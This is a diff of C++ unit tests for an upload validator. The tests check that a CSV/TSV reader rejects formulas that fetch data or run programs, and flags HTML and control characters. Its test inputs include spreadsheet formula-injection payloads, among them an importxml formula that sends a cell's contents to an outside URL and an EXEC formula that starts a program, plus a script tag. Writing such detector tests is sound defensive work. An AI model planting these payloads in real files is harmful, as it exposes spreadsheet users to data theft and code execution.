@@ -7,28 +7,16 @@
 namespace uploadgate::formats {
 namespace {
 
-struct table_case {
-  std::string_view what;
-  std::string input;
-  std::string_view reason;
-  std::optional<std::uint64_t> offset{};
-};
-
 structure_limits strict() {
   structure_limits limits;
   limits.document.formulas = handling::reject;
   return limits;
 }
 
-void judge(grammar_function grammar, const table_case& c) {
-  CAPTURE(c.what);
-  const test::outcome o = test::read_every_split(grammar, c.input, strict());
-  CHECK(o.reason == c.reason);
-  CHECK(o.offset == c.offset);
-}
+void judge(grammar_function grammar, const test::judged& c) { test::judge_one(grammar, c, strict()); }
 
 TEST_CASE("formulas that fetch or start something are refused where formulas only warn", "[csv]") {
-  const table_case cases[] = {
+  const test::judged cases[] = {
       {"a sum", "a,=SUM(A1:A3)\n", ""},
       {"a link to click on", "a,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n", ""},
       {"a list with bars behind a dash", "- one | two,3\n", ""},
@@ -50,8 +38,8 @@ TEST_CASE("formulas that fetch or start something are refused where formulas onl
       {"a feed", "=importxml(CONCAT(\"http://x/\",A1),\"//a\")\n", "external_reference", 0},
       {"a program", "=EXEC(\"calc\")\n", "macros", 0},
   };
-  for (const table_case& c : cases) {
-    CAPTURE(c.what);
+  for (const test::judged& c : cases) {
+    CAPTURE(c.name);
     const test::outcome o = test::read_every_split(csv, c.input);
     CHECK(o.reason == c.reason);
     CHECK(o.offset == c.offset);
@@ -59,7 +47,7 @@ TEST_CASE("formulas that fetch or start something are refused where formulas onl
 }
 
 TEST_CASE("CSV cells that spreadsheets run", "[csv]") {
-  const table_case cases[] = {
+  const test::judged cases[] = {
       {"plain", "a,b\r\n1,2\r\n", ""},
       {"a page", "\n<script>alert(1)</script>,b\n", "html", 1},
       {"a tag in a later cell", "a,<script>\n", ""},
@@ -94,17 +82,17 @@ TEST_CASE("CSV cells that spreadsheets run", "[csv]") {
       {"padding behind a quoted cell", "\"a\" ,c", ""},
       {"a control character", "a,\x01", "control_character", 2},
   };
-  for (const table_case& c : cases) judge(csv, c);
+  for (const test::judged& c : cases) judge(csv, c);
 }
 
 TEST_CASE("TSV has no quotes to close", "[csv]") {
-  const table_case cases[] = {
+  const test::judged cases[] = {
       {"plain", "a\tb\n1\t2\n", ""},
       {"inches", "6\"\t\"x\n", ""},
       {"a formula", "a\t=1+1\n", "formulas", 2},
       {"a formula behind a quote", "a\t\"=1+1\"\n", "formulas", 3},
   };
-  for (const table_case& c : cases) judge(tsv, c);
+  for (const test::judged& c : cases) judge(tsv, c);
 }
 
 TEST_CASE("formulas are noted once by default, and let pass on demand", "[csv]") {
